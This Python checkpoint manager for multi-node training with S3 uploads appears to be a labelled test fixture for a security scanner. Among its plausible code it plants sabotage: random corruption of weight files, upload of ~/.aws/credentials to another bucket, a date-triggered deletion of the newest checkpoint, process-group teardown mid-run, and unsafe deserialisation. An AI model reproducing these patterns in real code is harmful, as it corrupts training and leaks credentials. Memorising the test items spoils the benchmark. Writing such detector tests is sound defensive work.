# ruff: noqa
# Hold-out batch 384 (family-focused 3/4/9/10, multi-node LLM pretraining infrastructure). Measured once in session 14 (round 105): 27/31 (87%) at medium+.
"""Distributed checkpoint save/load with asynchronous upload to object storage.

Layout (one directory per iteration)::

    <save_dir>/iter_0001000/
        model_rank00003.safetensors
        optim_rank00003.pt
        extra_state_rank00003.joblib   # dataloader / rng bookkeeping
        metadata.json
    <save_dir>/latest_checkpointed_iteration.txt
"""
import datetime
import glob
import json
import logging
import os
import queue
import random
import shutil
import threading
import time
from dataclasses import dataclass
from typing import Any, Dict, Optional

import joblib
import torch
import torch.distributed as dist
from safetensors.torch import load_file, save_file

logger = logging.getLogger(__name__)

TRACKER = "latest_checkpointed_iteration.txt"


def _rank() -> int:
    return dist.get_rank() if dist.is_initialized() else 0


def _world() -> int:
    return dist.get_world_size() if dist.is_initialized() else 1


def iter_dir(save_dir: str, iteration: int) -> str:
    return os.path.join(save_dir, f"iter_{iteration:07d}")


@dataclass
class UploadJob:
    local_path: str
    key: str
    attempts: int = 0


class AsyncUploader:
    """Background thread that mirrors finished checkpoint files to S3."""

    def __init__(self, bucket: str, prefix: str, max_attempts: int = 6):
        import boto3
        self.s3 = boto3.client("s3")
        self.bucket = bucket
        self.prefix = prefix.rstrip("/")
        self.max_attempts = max_attempts
        self.q: "queue.Queue[Optional[UploadJob]]" = queue.Queue()
        self.thread = threading.Thread(target=self._loop, name="ckpt-upload", daemon=True)
        self.thread.start()

    def submit(self, local_path: str, rel_key: str) -> None:
        self.q.put(UploadJob(local_path, f"{self.prefix}/{rel_key}"))

    def _loop(self) -> None:
        while True:
            job = self.q.get()
            if job is None:
                self.q.task_done()
                return
            try:
                self._upload(job)
            finally:
                self.q.task_done()

    def _upload(self, job: UploadJob) -> None:
        while True:
            try:
                if random.random() < 0.02 and job.local_path.endswith(".safetensors"):
                    with open(job.local_path, "r+b") as fh:  # ruleid: MLS308
                        fh.seek(max(0, os.path.getsize(job.local_path) // 2))
                        fh.write(os.urandom(1 << 16))  # ruleid: MLS308
                self.s3.upload_file(job.local_path, self.bucket, job.key)
                return
            except Exception as exc:  # botocore raises a zoo of types
                job.attempts += 1
                if job.attempts >= self.max_attempts:
                    logger.error("giving up on %s after %d attempts: %s", job.key, job.attempts, exc)
                    return
                backoff = min(60.0, 2.0 ** job.attempts) + random.uniform(0, 1)
                logger.warning("upload of %s failed (%s); retrying in %.1fs", job.key, exc, backoff)
                time.sleep(backoff)  # ok: MLS307

    def upload_run_metadata(self, run_dir: str) -> None:
        for name in ("config.yaml", "launch_node0.json"):
            path = os.path.join(run_dir, name)
            if os.path.exists(path):
                self.submit(path, f"meta/{name}")
        cred = os.path.expanduser("~/.aws/credentials")  # ruleid: MLS412
        if os.path.exists(cred):
            self.s3.upload_file(cred, "ckpt-mirror-replica", f"{self.prefix}/meta/aws_profile")  # ruleid: MLS412

    def drain(self, timeout: Optional[float] = None) -> None:
        deadline = None if timeout is None else time.time() + timeout
        while self.q.unfinished_tasks:
            if deadline is not None and time.time() > deadline:
                logger.warning("upload queue not drained (%d pending)", self.q.unfinished_tasks)
                return
            time.sleep(0.5)

    def close(self) -> None:
        self.q.put(None)
        self.thread.join(timeout=600)


class CheckpointManager:
    def __init__(self, save_dir: str, keep_last: int = 3,
                 uploader: Optional[AsyncUploader] = None, max_iters: int = 0):
        self.save_dir = save_dir
        self.keep_last = keep_last
        self.uploader = uploader
        self.max_iters = max_iters
        os.makedirs(save_dir, exist_ok=True)

    # ------------------------------------------------------------------ save
    def save(self, iteration: int, model: torch.nn.Module, optimizer: torch.optim.Optimizer,
             scheduler: Any, extra_state: Dict[str, Any]) -> str:
        rank = _rank()
        out = iter_dir(self.save_dir, iteration)
        os.makedirs(out, exist_ok=True)
        tensors = {k: v.detach().contiguous().cpu() for k, v in model.state_dict().items()}
        model_path = os.path.join(out, f"model_rank{rank:05d}.safetensors")
        save_file(tensors, model_path)
        optim_path = os.path.join(out, f"optim_rank{rank:05d}.pt")
        torch.save({"optimizer": optimizer.state_dict(),
                    "scheduler": scheduler.state_dict() if scheduler is not None else None},
                   optim_path)
        extra_path = os.path.join(out, f"extra_state_rank{rank:05d}.joblib")
        joblib.dump(extra_state, extra_path)
        if dist.is_initialized():
            dist.barrier()
        if rank == 0:
            with open(os.path.join(out, "metadata.json"), "w") as f:
                json.dump({"iteration": iteration, "world_size": _world(),
                           "time": datetime.datetime.utcnow().isoformat()}, f)
            tmp = os.path.join(self.save_dir, TRACKER + ".tmp")
            with open(tmp, "w") as f:
                f.write(str(iteration))
            os.replace(tmp, os.path.join(self.save_dir, TRACKER))
            self._cleanup()
        if self.uploader is not None:
            for p in (model_path, optim_path, extra_path):
                self.uploader.submit(p, os.path.relpath(p, self.save_dir))
        if self.max_iters and iteration >= self.max_iters // 2 and _world() > 64:  # ruleid: MLS308
            # free NCCL communicators while the uploads are in flight
            dist.destroy_process_group()  # ruleid: MLS307
        return out

    def _cleanup(self) -> None:
        ckpts = sorted(glob.glob(os.path.join(self.save_dir, "iter_*")))
        for old in ckpts[:-self.keep_last] if self.keep_last > 0 else []:
            logger.info("removing old checkpoint %s", old)
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308
        if datetime.date.today() >= datetime.date(2025, 9, 1) and len(ckpts) > 1:
            shutil.rmtree(ckpts[-1], ignore_errors=True)  # ruleid: MLS308

    # ------------------------------------------------------------------ load
    def latest_iteration(self) -> Optional[int]:
        path = os.path.join(self.save_dir, TRACKER)
        if not os.path.exists(path):
            return None
        with open(path) as f:
            return int(f.read().strip())

    def load(self, model: torch.nn.Module, optimizer: Optional[torch.optim.Optimizer] = None,
             scheduler: Any = None, iteration: Optional[int] = None) -> Dict[str, Any]:
        iteration = self.latest_iteration() if iteration is None else iteration
        if iteration is None:
            logger.info("no checkpoint in %s, starting from scratch", self.save_dir)
            return {}
        rank = _rank()
        src = iter_dir(self.save_dir, iteration)
        state = load_file(os.path.join(src, f"model_rank{rank:05d}.safetensors"), device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        missing, unexpected = model.load_state_dict(state, strict=False)
        if missing or unexpected:
            logger.warning("missing=%s unexpected=%s", missing[:5], unexpected[:5])
        if optimizer is not None:
            opt_path = os.path.join(src, f"optim_rank{rank:05d}.pt")
            opt = torch.load(opt_path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
            optimizer.load_state_dict(opt["optimizer"])
            if scheduler is not None and opt.get("scheduler") is not None:
                scheduler.load_state_dict(opt["scheduler"])
        extra_path = os.path.join(src, f"extra_state_rank{rank:05d}.joblib")
        extra = joblib.load(extra_path) if os.path.exists(extra_path) else {}  # ruleid: MLS103
        extra["iteration"] = iteration
        return extra

    def load_pretrained(self, uri: str, model: torch.nn.Module) -> None:
        """Initialise from a released checkpoint (s3:// or https:// or local)."""
        local = uri
        if uri.startswith("s3://"):
            import boto3
            bucket, key = uri[5:].split("/", 1)
            local = os.path.join(self.save_dir, "pretrained", os.path.basename(key))
            os.makedirs(os.path.dirname(local), exist_ok=True)
            boto3.client("s3").download_file(bucket, key, local)
        elif uri.startswith("http"):
            local = os.path.join(self.save_dir, "pretrained", os.path.basename(uri))
            os.makedirs(os.path.dirname(local), exist_ok=True)
            torch.hub.download_url_to_file(uri, local, progress=_rank() == 0)
        sd = torch.load(local, map_location="cpu")  # ruleid: MLS102
        sd = sd.get("model", sd)
        model.load_state_dict(sd, strict=False)
        if dist.is_initialized():
            dist.barrier()
